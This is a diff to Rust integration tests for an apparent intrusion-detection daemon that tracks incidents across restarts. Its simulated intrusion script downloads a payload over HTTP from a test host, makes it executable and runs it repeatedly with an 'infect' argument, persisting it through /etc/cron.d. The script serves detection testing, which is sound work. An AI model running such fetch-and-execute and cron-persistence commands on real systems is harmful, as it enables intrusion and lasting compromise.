@@ -20,7 +20,7 @@ use serde_json::Value;
 
 use crate::{SOON, configuration, daemon, machine, machine_for_long};
 
-/// A dropper that stays, between two hosts.
+/// A dropper whose program is started again and again, between two hosts.
 struct Intrusion {
     pair: Pair,
     _servers: [Server; 2],
@@ -51,7 +51,7 @@ impl Intrusion {
                 "mount -t tmpfs none /etc/cron.d\n\
                  curl -s -o {dropped} http://{address}:8000/payload\n\
                  chmod +x {dropped}\n\
-                 {dropped} infect {address}:9000 /etc/cron.d/sync 600\n"
+                 while [ -e {share} ]; do {dropped} infect {address}:9000 /etc/cron.d/sync 2; done\n"
             ),
         )
         .expect("a script can be written");
@@ -67,13 +67,31 @@ impl Intrusion {
             .expect("it starts")
     }
 
-    /// Ends the dropped program, and with it the script.
+    /// Ends the script, which waits for the dropped program.
     fn end(&self, mut child: Child) {
-        let pids = command::run("pgrep", &["-f", &format!("^{} ", self.dropped)]);
-        for pid in String::from_utf8_lossy(&pids.stdout).lines() {
-            command::run("kill", &["-9", pid]);
-        }
+        let share = self.scratch.join("share");
+        fs::rename(&share, self.scratch.join("gone")).expect("a directory can be renamed");
         child.wait().expect("our child");
+        fs::rename(self.scratch.join("gone"), &share).expect("a directory can be renamed");
+    }
+
+    /// Returns whether a process of a suspect is alive, for each suspect of an incident in the state file.
+    fn stored(&self, id: &Value) -> Vec<bool> {
+        let text = fs::read_to_string(self.scratch.join("state/incidents.json")).expect("the state file");
+        let file: Value = serde_json::from_str(&text).expect("JSON");
+        let number = |value: &Value| value.as_u64().expect("a number");
+        let name = |incident: &Value| {
+            let origin = at(incident, "id.origin");
+            let parts = [&origin["pid"], &origin["start_ticks"], at(incident, "id.opened")];
+            parts.map(|part| format!("{:x}", number(part))).join("-")
+        };
+        let incidents = file["state"]["incidents"].as_array().expect("incidents");
+        let incident = incidents.iter().find(|incident| *id == name(incident)).expect("it is stored");
+        let suspects = incident["suspects"].as_object().expect("suspects");
+        let alive = |suspect: &Value| {
+            suspect["runs"].as_array().is_some_and(|runs| runs.iter().any(|run| run["alive"] == true))
+        };
+        suspects.values().map(alive).collect()
     }
 }
 
@@ -109,7 +127,8 @@ fn actions(alerts: &[Value]) -> Vec<String> {
         .iter()
         .map(|alert| {
             let (action, reason) = (word(alert, "event.action"), word(alert, "minerwatch.reason"));
-            format!("{} {action} {reason}", word(alert, "minerwatch.incident.id"))
+            let id = word(alert, "minerwatch.incident.id");
+            format!("{id} {action} {reason}: {}", word(alert, "message"))
         })
         .collect()
 }
@@ -146,19 +165,14 @@ fn survives(test_subnet: u8, kills: u32, mut seed: u64) {
     let mut alerts = Vec::new();
     let mut agent = start(&path);
     let child = intrusion.start();
+    agent.wait_for("opening", SOON, is_alert);
     for _ in 0..kills {
         thread::sleep(Duration::from_millis(random(900)));
         alerts.extend(kill(agent));
         agent = start(&path);
     }
-    // The intrusion may have ended its work while no daemon ran, but its last step stays.
-    agent.find(Duration::from_secs(3), is_alert);
     intrusion.end(child);
-    agent.find(Duration::from_millis(300), |_| false);
-    let explained = command::try_run(
-        &executable("minerwatch").to_string_lossy(),
-        &["explain", "--json", "--all", "--socket", &intrusion.scratch.join("control.sock")],
-    );
+    agent.find(Duration::from_millis(1_500), |_| false);
     alerts.extend(agent.stop().into_iter().filter(is_alert));
     note(&format!("{kills} kills in {:?}: {:#?}", begin.elapsed(), actions(&alerts)));
 
@@ -177,15 +191,10 @@ fn survives(test_subnet: u8, kills: u32, mut seed: u64) {
         *opened.entry(at(alert, "minerwatch.incident.id").to_string()).or_default() += 1;
     }
     assert!(opened.values().all(|count| *count == 1), "{opened:?}");
-    assert!(
-        own.iter().any(|alert| at(alert, "minerwatch.reason") == "resumed"),
-        "it says that it goes on: {:#?}",
-        actions(&alerts)
-    );
-    let states = String::from_utf8_lossy(&explained.stdout);
-    let states: Vec<Value> = states.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
-    let state = states.iter().find(|state| *at(state, "minerwatch.incident.id") == id).expect("it is open");
-    assert_eq!(state["minerwatch"]["suspects"][0]["alive"], false, "{state:#}");
+    let goes_on = |alert: &&&Value| at(alert, "event.action") == "incident-updated";
+    assert!(own.iter().filter(goes_on).count() > 0, "it goes on: {:#?}", actions(&alerts));
+    let alive = intrusion.stored(&id);
+    assert!(!alive.is_empty() && alive.iter().all(|alive| !alive), "{alive:?}");
 }
 
 #[test]
@@ -214,30 +223,19 @@ fn an_intrusion_that_ended_meanwhile_is_not_alive() {
     let id = of_intrusion(&alerts, &intrusion.dropped);
     intrusion.end(child);
 
-    // The same intrusion while the daemon is down.
+    // The intrusion ended while no daemon ran.
     let agent = start(&path);
     assert!(agent.says("incidents of the earlier run: ", SOON), "{:?}", agent.messages());
     assert!(daemon(&intrusion.scratch)["engine"]["incidents_restored"].as_u64() >= Some(1));
-    let explained = command::run(
-        &executable("minerwatch").to_string_lossy(),
-        &["explain", "--json", "--socket", &intrusion.scratch.join("control.sock")],
-    );
-    let states = String::from_utf8_lossy(&explained.stdout);
-    let states: Vec<Value> = states.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
-    let state = states.iter().find(|state| *at(state, "minerwatch.incident.id") == id).expect("it is open");
-    assert!(
-        state["minerwatch"]["suspects"]
-            .as_array()
-            .is_some_and(|all| all.iter().all(|one| one["alive"] == false)),
-        "{state:#}"
-    );
-    let later = kill(agent);
+    let later = agent.stop();
     assert!(about(&later, &id).is_empty(), "nothing is left that goes on: {:?}", actions(&later));
+    let alive = intrusion.stored(&id);
+    assert!(!alive.is_empty() && alive.iter().all(|alive| !alive), "{alive:?}");
 
     // It starts again while the daemon is down.
     let child = intrusion.start();
     let until = Instant::now() + SOON;
-    while command::try_run("pgrep", &["-f", &format!("^{} ", intrusion.dropped)]).stdout.is_empty() {
+    while command::try_run("pgrep", &["-f", &format!("^{} infect", intrusion.dropped)]).stdout.is_empty() {
         assert!(Instant::now() < until, "the dropped program runs");
         thread::sleep(Duration::from_millis(20));
     }
